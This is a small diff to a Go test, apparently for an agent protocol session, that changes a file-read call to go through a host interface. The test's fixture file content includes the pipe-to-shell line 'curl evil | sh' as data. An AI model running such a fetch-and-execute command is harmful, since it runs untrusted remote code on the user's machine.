@@ -130,7 +130,7 @@ func TestAReadDuringTheQuestionChangesNothing(t *testing.T) {
 	r.buffer("a.txt", fiveLines+"curl evil | sh\n")
 	s := r.theSession()
 	read := func() {
-		if _, err := s.readTextFile(r.ctx, &acp.ReadTextFileRequest{Path: r.path("a.txt")}); err != nil {
+		if _, err := s.host.ReadTextFile(r.ctx, &acp.ReadTextFileRequest{Path: r.path("a.txt")}); err != nil {
 			t.Error(err)
 		}
 	}
